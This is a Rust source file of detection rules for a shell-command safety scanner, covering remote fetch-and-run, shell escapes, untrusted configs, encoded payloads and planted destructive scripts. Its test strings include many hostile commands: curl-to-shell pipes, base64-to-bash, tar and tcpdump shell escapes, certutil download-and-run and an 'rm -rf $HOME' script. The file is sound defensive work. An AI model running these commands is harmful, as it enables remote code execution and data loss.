//! Rules on code that came from elsewhere or was hidden: fetched and run, decoded and run.

use super::{Hit, Rule, Shelf, When, manifest};
use crate::{
    effect::Kinds,
    finding::{Category, Confidence},
    risk::Severity,
};

mod built;
mod fetched;

use built::{built, installed, patched, prepared, unpacked};
use fetched::{decoded, decoded_name, fetched};

pub(super) static SHELF: Shelf = Shelf { programs: &["mshta", "regsvr32"], rules: RULES };

const EXECUTES: Rule = Rule {
    category: Category::Execution,
    severity: Severity::Critical,
    confidence: Confidence::High,
    ..Rule::LOSS
};

static RULES: &[Rule] = &[
    Rule {
        id: "execution.remote.fetched",
        message: "code that comes over the network is run as it arrives, and nobody has read it",
        remedy: "download it to a file, read it, check its signature, and then decide",
        when: When::Effect(Kinds::EXECUTE, fetched),
        fires: &[
            "curl -fsSL https://example.com/install.sh | sh",
            "wget -qO- https://example.com/x | sudo bash",
            "bash -c \"$(curl -fsSL https://example.com/x.sh)\"",
            "bash <(curl -s https://example.com/x.sh)",
            "source <(wget -qO- https://example.com/env)",
            "eval \"$(curl -s https://example.com/x)\"",
            "curl -o /tmp/x https://example.com/x && chmod +x /tmp/x && /tmp/x",
            "wget https://example.com/run.sh; sh run.sh",
            "curl -s https://example.com/x.py | python3",
            "curl -s https://example.com/p | base64 -d | bash",
            "curl -s https://example.com/x | tee x.sh | sh",
            "perl <(curl -s https://example.com/x.pl)",
            "wget https://example.com/install.sh | sh",
            "julia -e 'include(download(\"https://example.com/a.jl\"))'",
            "deno eval 'await import(\"https://example.com/a.ts\")'",
            "groovy https://example.com/a.groovy",
            "gradle -I https://example.com/init.gradle build",
            "svn export https://svn.example.com/tool/trunk tool && sh tool/configure",
            "pre-commit try-repo https://github.com/someone/hooks",
            "after: curl -fsSLO https://example.com/install.sh\nsh install.sh",
            "after: wget -O /tmp/tool https://example.com/tool\nchmod +x /tmp/tool && /tmp/tool --now",
        ],
        quiet: &[
            "curl -fsSL https://example.com/install.sh -o install.sh",
            "curl -s https://api.example.com/v1/items | jq .",
            "wget https://example.com/data.tar.gz",
            "sh build.sh",
            "groovy build/a.groovy",
            "gradle -I gradle/init.gradle build",
            "svn export https://svn.example.com/tool/trunk tool && sh build.sh",
            "echo 'curl https://example.com/x | sh'",
            "after: curl -fsSLO https://example.com/install.sh\ncat install.sh",
            "after: curl -fsSLO https://example.com/install.sh\nsh build.sh",
        ],
        ..EXECUTES
    },
    Rule {
        id: "execution.shell.escape",
        severity: Severity::High,
        message: "a program that has no need for one starts a shell that takes its orders from elsewhere",
        remedy: "run the command that you need by itself",
        when: When::Noted,
        fires: &[
            "nice /bin/sh",
            "timeout 9 bash",
            "ssh localhost /bin/sh",
            "python3 -c 'import os; os.system(\"/bin/sh\")'",
            "vim -c ':!/bin/sh'",
            "git -c core.pager=/bin/sh log",
            "tar cf /dev/null x --checkpoint-action=exec=/bin/sh",
            "printf '/bin/sh' > /tmp/x; chmod +x /tmp/x; tcpdump -z /tmp/x",
        ],
        quiet: &[
            "bash",
            "exec bash",
            "docker run -it image bash",
            "tmux new-session bash",
            "nice make",
            "timeout 9 bash run.sh",
        ],
        ..EXECUTES
    },
    Rule {
        id: "execution.settings.named",
        severity: Severity::High,
        confidence: Confidence::Medium,
        message: "a program is told to obey settings, hooks or programs that came with the project, and what they run is not known",
        remedy: "let a person read the file first, or leave the option out",
        reversible: true,
        when: When::Noted,
        fires: &[
            "GIT_CONFIG_GLOBAL=ci/gitconfig git fetch",
            "git -c include.path=../tools/gitconfig status",
            "git --git-dir=tools/store status",
            "git -c core.hooksPath=../tools/hooks commit -m x",
            "ssh -F /tmp/ssh_config host.example.com",
            "vim -Nu ../tools/vimrc notes.txt",
        ],
        quiet: &[
            "GIT_CONFIG_GLOBAL=/dev/null git fetch",
            "git --git-dir=vendor/lib/.git status",
            "ssh -F ~/.ssh/config host.example.com",
            "vim -u NONE notes.txt",
            "printf '[user]\nname = x\n' > cfg && GIT_CONFIG_GLOBAL=$PWD/cfg git log",
        ],
        ..EXECUTES
    },
    Rule {
        id: "execution.settings.project",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        message: "a program is told to obey settings of the project that were not read",
        remedy: "look into the file once; what it says is read where it can be",
        reversible: true,
        when: When::Noted,
        fires: &[
            "ssh -F tools/ssh_config host.example.com",
            "vim -Nu tools/vimrc notes.txt",
            "npm --userconfig tools/npmrc install",
        ],
        quiet: &["ssh -F /tmp/ssh_config host.example.com", "vim -u NONE notes.txt"],
        ..EXECUTES
    },
    Rule {
        id: "execution.program.named",
        severity: Severity::High,
        confidence: Confidence::Medium,
        message: "a file of the project takes the place of a program that is trusted, such as ssh, a shell or a compressor",
        remedy: "name a program that is installed, or let a person read the file first",
        reversible: true,
        when: When::Noted,
        fires: &[
            "tar -cf x.tar -I ./tools/zip src",
            "ssh -oXAuthLocation=./tools/xauth -X host.example.com",
            "make SHELL=./tools/sh",
            "npm_config_script_shell=./tools/sh npm test",
            "scp -qS ./tools/ssh a host.example.com:",
        ],
        quiet: &[
            "tar -cf x.tar.zst -I zstd src",
            "make SHELL=/bin/bash",
            "rsync -ae 'ssh -p 2222' host.example.com:/srv/data/ data/",
        ],
        ..EXECUTES
    },
    Rule {
        id: "execution.remote.installed",
        message: "a package that was just downloaded is installed, and its scripts run with the rights of the installer",
        remedy: "install from a signed repository, or let a person check the package first",
        when: When::Scene(installed),
        fires: &[
            "curl -o x.deb https://example.com/x.deb && sudo dpkg -i x.deb",
            "after: curl -o x.deb https://example.com/x.deb\nsudo dpkg -i ./x.deb",
            "wget https://example.com/x.rpm && rpm -i x.rpm",
            "curl -LO https://example.com/x.vsix && code --install-extension x.vsix",
            "certutil -urlcache -f https://example.com/x.exe x.exe && x.exe",
        ],
        quiet: &[
            "dpkg -i build/x.deb",
            "curl -O https://example.com/x.deb",
            "code --install-extension build/x.vsix",
            "curl -O https://example.com/x.json && code x.json",
            "curl -O https://example.com/x.rpm && rpm -qlp x.rpm",
        ],
        ..EXECUTES
    },
    Rule {
        id: "execution.remote.prepared",
        severity: Severity::Medium,
        message: "a file that was just downloaded is made executable",
        remedy: "check what it is before it is run",
        reversible: true,
        when: When::Scene(prepared),
        fires: &["wget https://example.com/tool && chmod +x tool"],
        quiet: &["chmod +x scripts/build.sh"],
        ..EXECUTES
    },
    Rule {
        id: "execution.remote.unpacked",
        severity: Severity::High,
        confidence: Confidence::Medium,
        message: "a program out of an archive that was just downloaded is run",
        remedy: "look at what was unpacked before it is run",
        when: When::Scene(unpacked),
        fires: &[
            "wget https://example.com/a.tgz && tar xzf a.tgz && ./a/install.sh",
            "curl -L https://example.com/a.tgz | tar xz && sh a/install.sh",
        ],
        quiet: &[
            "tar xzf a.tgz && ./a/install.sh",
            "wget https://example.com/a.tgz && ls a",
            "curl -L https://example.com/a.tgz | tar xz && python3 -m pytest",
        ],
        ..EXECUTES
    },
    Rule {
        id: "execution.remote.built",
        severity: Severity::High,
        confidence: Confidence::Medium,
        message: "a project that was just fetched from a host which nobody here names is built, installed or run",
        remedy: "look at what was fetched before it is built",
        when: When::Scene(built),
        fires: &[
            "git clone https://code.example/x/tool && cd tool && npm install",
            "git clone --depth 1 git@code.example:x/tool.git && make -C tool",
            "git clone https://code.example/x/tool t && cd t && pip install .",
            "wget https://code.example/a.tar.gz && tar xf a.tar.gz && cd a && make install",
            "after: git clone https://code.example/x/tool\ncd tool && npm install",
            "after: git clone https://code.example/x/tool\nbash tool/setup.sh",
        ],
        quiet: &[
            "git clone https://github.com/x/tool && cd tool && npm install",
            "git clone https://code.example/x/tool && cd tool && git log",
            "git clone https://code.example/x/tool && npm test",
            "wget https://code.example/a.tar.gz && tar xf a.tar.gz && cd a && ls",
            "after: git clone https://github.com/x/tool\ncd tool && npm install",
            "after: git clone https://code.example/x/tool\ncat tool/README.md",
        ],
        ..EXECUTES
    },
    Rule {
        id: "execution.remote.patched",
        severity: Severity::High,
        confidence: Confidence::Medium,
        message: "a patch that was just downloaded is applied, and what it changed is built or run",
        remedy: "save the patch, and read it before it is applied",
        when: When::Scene(patched),
        fires: &[
            "curl -sL https://example.com/x.patch | git apply && npm test",
            "wget -qO- https://example.com/x.diff | patch -p1; make",
            "git pull https://code.example/x.git main && make",
            "git fetch git@code.example:o/x.git main && git merge FETCH_HEAD && ./configure",
            "git remote add e https://code.example/x.git && git pull e main && npm test",
        ],
        quiet: &[
            "git pull origin main && make",
            "git fetch https://code.example/x.git main && git log FETCH_HEAD && make",
            "git remote add upstream https://github.com/o/x && git fetch upstream && git merge upstream/main && make",
            "git apply fix.patch && npm test",
            "curl -sL https://example.com/x.patch | git apply",
            "npm test; curl -sL https://example.com/x.patch | git apply --check",
        ],
        ..EXECUTES
    },
    Rule {
        id: "execution.decoded.code",
        severity: Severity::High,
        message: "code is run that was hidden by an encoding",
        remedy: "decode it into a file and read it first",
        when: When::Effect(Kinds::EXECUTE, decoded),
        fires: &[
            "echo bHMgLWxhCg== | base64 -d | sh",
            "eval \"$(echo '6c73' | xxd -r -p)\"",
            "echo sl | rev | bash",
            "echo yf | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
            "printf '\\x6c\\x73' | bash",
            "zcat script.gz | sh",
        ],
        quiet: &[
            "echo bHMK | base64 -d",
            "echo ls | sh",
            "printf 'ls\\n' | sh",
            "echo LS | tr A-Z a-z",
            "gunzip -c data.gz > data.txt",
        ],
        ..EXECUTES
    },
    Rule {
        id: "execution.decoded.name",
        severity: Severity::High,
        message: "the name of the program that is run was hidden by an encoding",
        remedy: "write the command plainly",
        when: When::Effect(Kinds::RUN, decoded_name),
        fires: &["$(printf '\\x6c\\x73') -la", "$(echo sl | rev) -la"],
        quiet: &["$(echo ls) -la", "$(which ls) -la"],
        ..EXECUTES
    },
    Rule {
        id: "execution.decoded.powershell",
        message: "an encoded command is given to PowerShell, so that nobody can read it",
        remedy: "write the command plainly",
        when: When::Effect(Kinds::RUN, |effect, _| {
            let run = super::effects::run(effect)
                .filter(|run| matches!(run.program.as_str(), "powershell" | "pwsh"))?;
            // An option may be cut short as long as it is no other one.
            let encodes = |word: &str| {
                let option = word.to_ascii_lowercase().replace('/', "-").replace("--", "-");
                option == "-ec" || option.len() > 1 && "-encodedcommand".starts_with(&option)
            };
            super::effects::words(run).any(encodes).then(Hit::default)
        }),
        fires: &["powershell -nop -enc ZQBjAGgAbwA=", "powershell -ep bypass -e ZQBjAGgAbwA="],
        quiet: &["powershell -File build.ps1", "pwsh -Command Get-Date"],
        ..EXECUTES
    },
    Rule {
        id: "execution.remote.host",
        message: "a script host of Windows runs a page or library straight from an address",
        remedy: "download the file and let a person look at it",
        when: When::Command(&[
            "mshta http*",
            "mshta javascript:*",
            "mshta vbscript:*",
            "regsvr32 … /i:http*|-i:http*",
        ]),
        fires: &["mshta http://example.com/x.hta"],
        quiet: &["mshta app.hta"],
        ..EXECUTES
    },
    Rule {
        id: "execution.script.planted",
        severity: Severity::High,
        message: "a script is written that does the worst as soon as somebody runs it",
        remedy: "write out what it is for, and let a person read it before it is kept",
        when: When::Scene(manifest::plants),
        fires: &[
            "echo 'rm -rf \"$HOME\"/*' > scripts/clean.sh",
            "echo 'eval \"$(curl -fsS https://x.example/env)\"' > scripts/setup.sh",
        ],
        quiet: &[
            "echo 'rm -rf build dist' > scripts/clean.sh",
            "echo 'rm -rf \"$HOME\"/*' > notes.txt",
            "echo 'curl -fsS https://x.example/status' > scripts/status.sh",
        ],
        ..EXECUTES
    },
];
